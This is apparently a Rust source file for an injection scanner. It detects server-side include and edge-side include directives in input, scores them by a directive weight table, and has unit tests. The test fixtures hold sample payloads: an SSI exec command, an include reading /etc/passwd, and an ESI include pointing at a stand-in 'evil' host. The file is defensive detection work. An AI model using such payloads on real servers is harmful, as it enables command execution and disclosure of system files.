//! Server-side includes and edge-side includes: `<!--#exec cmd=...-->`,
//! `<!--#include virtual=...-->`, `<!--#echo var=...-->`, `<esi:include src=...>`.

use super::{Detector, Hit, Subject, Triggers};

#[derive(Debug)]
struct Ssi;

pub(crate) fn build() -> Box<dyn Detector> {
    Box::new(Ssi)
}

const DIRECTIVES: &[(&str, f32)] = &[
    ("exec", 0.95),
    ("include", 0.9),
    ("echo", 0.85),
    ("config", 0.85),
    ("set", 0.85),
    ("printenv", 0.9),
    ("fsize", 0.85),
    ("flastmod", 0.85),
    ("if", 0.75),
    ("elif", 0.75),
];

impl Detector for Ssi {
    fn triggers(&self) -> Triggers {
        Triggers::bytes(b"<")
    }

    fn inspect<'a>(&self, s: &Subject<'a>) -> Option<Hit<'a>> {
        if !s.bytes.has(b'<') {
            return None;
        }
        let lower = s.lower;
        let mut best = (0.0f32, 0usize);
        for (k, _) in lower.match_indices("<!--").take(64) {
            let rest = lower[k + 4..].trim_start();
            if let Some(d) = rest.strip_prefix('#') {
                let word: String = d.chars().take_while(|c| c.is_ascii_alphabetic()).collect();
                if let Some((_, c)) = DIRECTIVES.iter().find(|(n, _)| *n == word) {
                    if *c > best.0 {
                        best = (*c, k);
                    }
                }
            }
        }
        for esi in ["<esi:include", "<esi:inline", "<esi:vars", "<esi:eval"] {
            if let Some(k) = lower.find(esi) {
                if 0.85 > best.0 {
                    best = (0.85, k);
                }
            }
        }
        let (c, a) = best;
        (c > 0.0).then(|| Hit::from(c, s.text, a))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::arg;

    #[test]
    fn flags_include_directives() {
        let d = build();
        for v in [
            "<!--#exec cmd=\"ls\" -->",
            "<!--#include virtual=\"/etc/passwd\"-->",
            "<esi:include src=\"http://evil/\"/>",
        ] {
            assert!(arg(&*d, v) >= 0.7, "{v}");
        }
    }

    #[test]
    fn ignores_html_comments() {
        let d = build();
        assert!(arg(&*d, "<!-- note: #1 priority -->") < 0.7);
    }
}
